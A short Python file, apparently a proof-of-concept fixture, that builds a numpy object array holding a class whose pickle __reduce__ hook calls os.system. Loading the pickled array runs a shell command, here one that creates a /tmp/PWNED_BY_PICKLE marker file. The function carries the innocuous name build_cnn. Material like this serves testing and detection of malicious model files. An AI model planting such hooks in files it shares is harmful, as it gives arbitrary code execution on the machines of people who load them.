import os

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/PWNED_BY_PICKLE",))


def build_cnn():
    arrays = np.array([Payload()], dtype=object)
    return arrays
